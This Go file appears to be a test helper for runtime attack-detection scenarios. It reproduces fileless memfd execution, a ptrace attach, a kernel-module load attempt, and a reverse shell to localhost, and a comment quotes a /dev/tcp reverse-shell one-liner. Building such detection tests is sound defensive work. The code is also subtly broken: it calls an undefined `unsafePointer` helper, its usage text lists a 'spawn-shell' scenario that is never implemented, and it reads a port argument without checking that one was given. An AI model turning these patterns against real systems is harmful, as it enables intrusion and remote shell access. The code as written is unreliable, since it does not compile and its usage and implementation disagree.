//go:build linux

// Command attack performs the system-call patterns of common attacks for
// the runtime scenario tests: it is copied into the test container image.
// Every scenario is harmless: nothing leaves the machine, files are written
// only under /tmp, and a kernel module load is attempted with an invalid
// image that the kernel rejects.
package main

import (
	"fmt"
	"os"
	"os/exec"
	"strconv"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attack memfd|ptrace|module|revshell PORT|spawn-shell")
		os.Exit(2)
	}
	var err error
	switch os.Args[1] {
	case "memfd":
		err = memfd()
	case "ptrace":
		err = ptrace()
	case "module":
		err = module()
	case "revshell":
		err = revshell(os.Args[2])
	default:
		err = fmt.Errorf("unknown scenario %q", os.Args[1])
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "attack:", err)
		os.Exit(1)
	}
}

// memfd copies /bin/busybox into a memfd and executes it (fileless execution).
func memfd() error {
	fd, err := unix.MemfdCreate("payload", 0)
	if err != nil {
		return err
	}
	data, err := os.ReadFile("/bin/busybox")
	if err != nil {
		return err
	}
	if _, err := unix.Write(fd, data); err != nil {
		return err
	}
	path := fmt.Sprintf("/proc/self/fd/%d", fd)
	return syscall.Exec(path, []string{"true"}, os.Environ())
}

// ptrace attaches to a child process.
func ptrace() error {
	cmd := exec.Command("/bin/sleep", "5")
	if err := cmd.Start(); err != nil {
		return err
	}
	defer cmd.Process.Kill()
	time.Sleep(100 * time.Millisecond)
	if err := unix.PtraceAttach(cmd.Process.Pid); err != nil {
		return fmt.Errorf("ptrace attach: %w", err)
	}
	var ws unix.WaitStatus
	unix.Wait4(cmd.Process.Pid, &ws, 0, nil)
	return unix.PtraceDetach(cmd.Process.Pid)
}

// module attempts to load an invalid kernel module (the kernel refuses it).
func module() error {
	bogus := []byte("\x7fELF-not-a-module")
	_, _, errno := unix.Syscall(unix.SYS_INIT_MODULE, uintptr(unsafePointer(bogus)), uintptr(len(bogus)), uintptr(unsafePointer([]byte("\x00"))))
	fmt.Println("init_module:", errno)
	return nil
}

// revshell connects to 127.0.0.1:PORT and redirects stdin/stdout to the
// socket before running a shell: the reverse-shell pattern, with the same
// system calls as `bash -i >& /dev/tcp/HOST/PORT 0>&1`.
func revshell(port string) error {
	p, err := strconv.Atoi(port)
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	if err := unix.Connect(fd, &unix.SockaddrInet4{Port: p, Addr: [4]byte{127, 0, 0, 1}}); err != nil {
		return fmt.Errorf("connect: %w", err)
	}
	for _, target := range []int{0, 1} {
		if err := unix.Dup2(fd, target); err != nil {
			return err
		}
	}
	return syscall.Exec("/bin/sh", []string{"sh", "-c", "true"}, os.Environ())
}
